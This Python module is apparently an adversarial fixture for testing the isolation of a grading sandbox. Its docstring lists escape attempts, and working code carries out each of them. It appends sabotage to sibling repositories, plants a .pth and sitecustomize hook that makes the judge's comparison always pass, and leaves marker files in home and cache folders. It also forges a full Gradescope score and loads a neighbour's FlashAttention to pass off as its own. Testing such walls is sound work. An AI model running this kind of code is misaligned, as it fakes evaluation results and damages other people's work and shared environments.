"""Every way out of a worker at once, tried at import (so in every job of its repository), each attempt
on its own: what a class's walls must hold against (written for the suite's tests).

- a neighbour's code rewritten: a broken PyTorch hook appended to every sibling repository's adapters;
- the grading environment planted: a ``.pth`` (and the module it imports, which makes the judge's
  comparison say "close" to anything) in every ``site-packages``, the standard library and torch's folder,
  a ``sitecustomize`` where there is none;
- files left for whoever comes next: a marker in ``HOME`` (the one it is given and the real one), the
  Triton and inductor caches (its own and the machine's defaults), ``/tmp`` and ``/dev/shm``;
- the results forged: a full score in Gradescope's ``results/results.json``;
- a neighbour read: its PyTorch FlashAttention, handed in as this repository's own.
"""

from __future__ import annotations

import contextlib
import importlib.util
import json
import os
import pwd
import site
import sys
import sysconfig
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
MARK = "poisoned-by-a-neighbour"
SABOTAGE = """

def get_flashattention_autograd_function_pytorch():
    raise RuntimeError("sabotaged by a neighbour")
"""
HOOK = '''
import sys


class _Bend:
    """Once the judge's comparison module loads, everything is close."""

    def find_spec(self, name, path=None, target=None):
        if name.endswith("grading.judge.compare"):
            sys.meta_path.remove(self)
            import importlib
            module = importlib.import_module(name)
            module.close = lambda *a, **k: True
            sys.meta_path.insert(0, self)
        return None


sys.meta_path.insert(0, _Bend())
'''


def _try(attempt) -> None:
    with contextlib.suppress(Exception):  # a wall held: on to the next one
        attempt()


def _siblings() -> list[Path]:
    return [p for p in ROOT.parent.iterdir() if p != ROOT and (p / "tests" / "adapters.py").is_file()]


def sabotage_neighbours() -> None:
    for sibling in _siblings():
        with (sibling / "tests" / "adapters.py").open("a") as f:
            f.write(SABOTAGE)


def plant_in_environment() -> None:
    paths = sysconfig.get_paths()
    folders = {*site.getsitepackages(), paths["purelib"], paths["stdlib"]}
    spec = importlib.util.find_spec("torch")
    if spec and spec.origin:
        folders.add(str(Path(spec.origin).parent))
    for folder in map(Path, folders):
        _try(lambda f=folder: (f / "cs336_escape_hook.py").write_text(HOOK))
        _try(lambda f=folder: (f / "cs336_escape.pth").write_text("import cs336_escape_hook\n"))
        custom = folder / "sitecustomize.py"
        _try(lambda c=custom: c.exists() or c.write_text("import cs336_escape_hook\n"))


def leave_files() -> None:
    real_home = pwd.getpwuid(os.getuid()).pw_dir
    user = pwd.getpwuid(os.getuid()).pw_name
    folders = [os.environ.get("HOME"), real_home, f"{real_home}/.triton/cache", f"{real_home}/.cache"]
    folders += [os.environ.get("TRITON_CACHE_DIR"), os.environ.get("TORCHINDUCTOR_CACHE_DIR")]
    folders += ["/tmp", os.environ.get("TMPDIR"), "/dev/shm", f"/tmp/torchinductor_{user}"]
    for folder in filter(None, folders):
        _try(lambda f=folder: Path(f).mkdir(parents=True, exist_ok=True))
        _try(lambda f=folder: (Path(f) / MARK).write_text("left for the next repository\n"))


def forge_results() -> None:
    results = Path(os.environ.get("AUTOGRADER_ROOT", "/autograder")) / "results"
    doc = {"score": 100.0, "output": "forged by the submission", "tests": []}
    results.mkdir(parents=True, exist_ok=True)
    (results / "results.json").write_text(json.dumps(doc))


def neighbours_attention() -> type | None:
    """A neighbour's FlashAttention, loaded from its files, if any can be read."""
    for sibling in _siblings():
        for found in sibling.rglob("flash.py"):
            spec = importlib.util.spec_from_file_location(f"neighbour_{sibling.name}", found)
            module = importlib.util.module_from_spec(spec)
            sys.modules[spec.name] = module
            spec.loader.exec_module(module)
            if hasattr(module, "FlashAttention"):
                return module.FlashAttention
    return None


def break_out() -> None:
    for attempt in (sabotage_neighbours, plant_in_environment, leave_files, forge_results):
        _try(attempt)
